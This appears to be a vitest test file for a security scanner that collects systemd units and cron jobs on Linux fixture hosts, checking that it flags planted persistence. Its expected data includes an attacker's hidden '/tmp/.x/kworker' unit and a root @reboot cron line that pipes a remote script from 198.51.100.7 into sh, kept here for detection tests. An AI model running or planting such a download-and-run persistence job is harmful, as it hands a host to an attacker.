import { collectAutostart, parseUnit, scanContext } from '@hss/agent';
import { describe, expect, it } from 'vitest';
import { copyHost, tempDir, writeFiles } from './fixture.js';

describe('auto-start: systemd', () => {
  it('lists units enabled in etc/systemd/system/*.wants with their command, through absolute links and lib → usr/lib', () => {
    const items = collectAutostart(scanContext(copyHost('debian-hardened'))).filter((i) => i.kind === 'systemd');
    expect(items).toEqual([
      { kind: 'systemd', name: 'cron.service', command: '/usr/sbin/cron -f -P $EXTRA_OPTS' },
      { kind: 'systemd', name: 'nginx.service', command: "/usr/sbin/nginx -g 'daemon on; master_process on;'" },
      { kind: 'systemd', name: 'ssh.service', command: '/usr/sbin/sshd -D $SSHD_OPTS' },
      { kind: 'systemd', name: 'systemd-resolved.service', command: '/lib/systemd/systemd-resolved', user: 'systemd-resolve' },
    ]);
  });

  it('finds a unit added by an attacker', () => {
    const items = collectAutostart(scanContext(copyHost('debian-weak')));
    expect(items).toContainEqual({
      kind: 'systemd',
      name: 'kworker-update.service',
      command: '/tmp/.x/kworker -c /tmp/.x/c.json',
    });
  });

  it('takes the first ExecStart of the [Service] section only', () => {
    expect(
      parseUnit('[Unit]\nExecStart=/not/this\n[Service]\nExecStart=-/bin/true \\\n  --flag\nExecStart=/second\nUser=nobody\n'),
    ).toEqual({
      execStart: '/bin/true    --flag',
      user: 'nobody',
    });
  });
});

describe('auto-start: cron', () => {
  it('lists system crontab, cron.d, per-user crontabs and run-parts scripts with user and command', () => {
    const items = collectAutostart(scanContext(copyHost('debian-hardened'))).filter((i) => i.kind === 'cron');
    expect(items).toContainEqual({
      kind: 'cron',
      name: '17 * * * * /etc/crontab',
      command: 'cd / && run-parts --report /etc/cron.hourly',
      user: 'root',
    });
    expect(items).toContainEqual({
      kind: 'cron',
      name: '10 3 * * * /etc/cron.d/e2scrub_all',
      command: 'test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r',
      user: 'root',
    });
    expect(items).toContainEqual({
      kind: 'cron',
      name: '*/15 * * * * /var/spool/cron/crontabs/alice',
      command: '/home/alice/bin/report-disk-usage --quiet',
      user: 'alice',
    });
    expect(items).toContainEqual({
      kind: 'cron',
      name: '@daily /etc/cron.daily/logrotate',
      command: '/etc/cron.daily/logrotate',
      user: 'root',
    });
    // 4 in crontab, 2 in cron.d (not .placeholder), 1 of alice's (not MAILTO=), 2 daily scripts
    expect(items).toHaveLength(9);
  });

  it('finds an @reboot download-and-run job and counts a line that is not a job', () => {
    const ctx = scanContext(copyHost('debian-weak'));
    const items = collectAutostart(ctx);
    expect(items).toContainEqual({
      kind: 'cron',
      name: '@reboot /var/spool/cron/crontabs/root',
      command: 'curl -fsSL http://198.51.100.7/k.sh | sh',
      user: 'root',
    });
    expect(items.filter((i) => i.user === 'svc-backup')).toEqual([
      {
        kind: 'cron',
        name: '30 1 * * * /var/spool/cron/crontabs/svc-backup',
        command: 'rsync -a /srv/data/ backup@10.0.5.9:/data/',
        user: 'svc-backup',
      },
    ]);
    expect(ctx.skips.counts['autostart.malformedCronLine']).toBe(1);
  });

  it('lists nothing on a host without units or crontabs', () => {
    const root = tempDir();
    writeFiles(root, { 'etc/hostname': 'empty\n' });
    expect(collectAutostart(scanContext(root))).toEqual([]);
  });
});
